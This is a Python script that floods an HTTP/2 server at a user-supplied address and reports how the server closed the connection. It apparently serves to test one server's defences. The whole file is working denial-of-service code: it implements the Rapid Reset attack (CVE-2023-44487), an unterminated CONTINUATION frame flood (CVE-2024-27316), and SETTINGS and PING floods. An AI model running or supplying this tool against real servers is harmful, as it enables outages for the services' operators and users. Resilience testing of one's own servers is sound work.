"""Floods a server over HTTP/2 until it ends the connection, or for some seconds: `flood.py ADDRESS KIND SECONDS`.

Prints how many frames were sent, and how the server ended the connection.
"""

import select
import socket
import sys
import time

import h2.config
import h2.connection
from h2.errors import ErrorCodes
from hyperframe.frame import ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, SettingsFrame

address, kind, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
host, port = address.rsplit(":", 1)
connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
connection.initiate_connection()
stream = 1
HEADERS = [(":method", "POST"), (":path", "/uppercase"), (":scheme", "http"), (":authority", "localhost")]


def rapid_reset():
    """CVE-2023-44487: a request and its cancellation."""
    global stream
    connection.send_headers(stream, HEADERS)
    connection.reset_stream(stream)
    stream += 2
    return connection.data_to_send(), 2


def continuation():
    """CVE-2024-27316: a head without an end."""
    global stream
    if stream == 1:
        stream = 3
        frame = HeadersFrame(1, data=connection.encoder.encode(HEADERS))
    else:
        # Literal headers that no table keeps.
        frame = ContinuationFrame(1, data=b"\x10\x01x\x7f\x81\x1f" + b"y" * 4096)
    return frame.serialize(), 1


def settings():
    """Each is acknowledged."""
    return SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * 50, 50


def ping():
    """Each is answered."""
    return PingFrame(0, opaque_data=b"12345678").serialize() * 50, 50


def read(peer):
    data = peer.recv(65536)
    if not data:
        raise ConnectionResetError
    return data


def reason(received):
    """Returns the error of the last GOAWAY."""
    error = ""
    while len(received) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(received[:9]))
        if isinstance(frame, GoAwayFrame) and len(received) >= 9 + length:
            frame.parse_body(memoryview(received[9:9 + length]))
            error = f" with {ErrorCodes(frame.error_code).name}"
        received = received[9 + length:]
    return error


def main():
    peer = socket.create_connection((host, int(port)))
    peer.sendall(connection.data_to_send())
    flood = {"reset": rapid_reset, "continuation": continuation, "settings": settings, "ping": ping}[kind]
    # `-unread` lets the answers pile up.
    reads = len(sys.argv) < 5
    sent, end = 0, time.monotonic() + seconds
    pending, frames, received = b"", 0, b""
    peer.setblocking(False)
    try:
        while time.monotonic() < end:
            if not pending:
                sent += frames
                pending, frames = flood()
            readable, writable, _ = select.select([peer] if reads else [], [peer], [], 0.2)
            if readable:
                received += read(peer)
            if writable:
                pending = pending[peer.send(pending):]
    except OSError:
        try:
            while True:
                received += read(peer)
        except OSError:
            print(f"{sent} frames, ended by the server{reason(received)}")
    else:
        print(f"{sent} frames, open at the end")


main()
